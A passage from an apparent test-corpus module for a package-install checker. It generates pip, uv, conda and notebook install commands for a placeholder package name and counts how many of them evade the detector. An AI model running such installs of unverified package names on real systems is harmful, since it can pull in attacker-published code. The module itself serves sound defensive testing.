runs as a bash script; attack G19), and magics that run their body as a cell of its own (``%%capture``, ``%%time``)
around another cell magic."""
NOTEBOOK_COMMANDS: tuple[str, ...] = (
    "pip install {name}", "pip install -q {name}", "python -m pip install {name}", "uv pip install {name}",
    "pip install -U pip \\\n  {name}", "sudo -H pip3 install {name}", "conda install -y {name}",
)


def notebook_cells() -> Iterator[str]:
    """The source of a code cell that installs :data:`FAKE`, for every cell shape x command."""
    for cell, command in itertools.product(NOTEBOOK_CELLS, NOTEBOOK_COMMANDS):
        yield cell.format(cmd=command.format(name=FAKE))


def corpus() -> list[Shape]:
    return [*commands(), *files()]


def escapes(installs: Callable[[Shape], bool]) -> list[Shape]:
    """The shapes for which ``installs`` (does the check block or ask?) says no."""
    return [shape for shape in corpus() if not installs(shape)]


if __name__ == "__main__":  # pragma: no cover - the before/after measurement of docs/installs.md
    import sys

    from hallucheck.sources.install_commands import install_commands  # type: ignore[import-not-found,unused-ignore]
    from hallucheck.sources.install_files import installed_names  # type: ignore[import-not-found,unused-ignore]

    def caught(shape: Shape) -> bool:
        if shape.kind == "command":
            arguments = [argument for command in install_commands(shape.text) for argument in command.arguments]
        else:
            arguments = [item.argument for item in installed_names(shape.kind, shape.text)]
        if shape.source:
            return any(getattr(argument, "sets_source", False) for argument in arguments)
        return any(argument.name == FAKE or not getattr(argument, "determined", True) for argument in arguments)

    shapes = corpus()
    missed = escapes(caught)
    print(f"{len(shapes)} shapes, {len(missed)} escape", file=sys.stderr)
    for shape in missed[: int(sys.argv[1]) if len(sys.argv) > 1 else 0]:
        print(shape.kind, repr(shape.text))
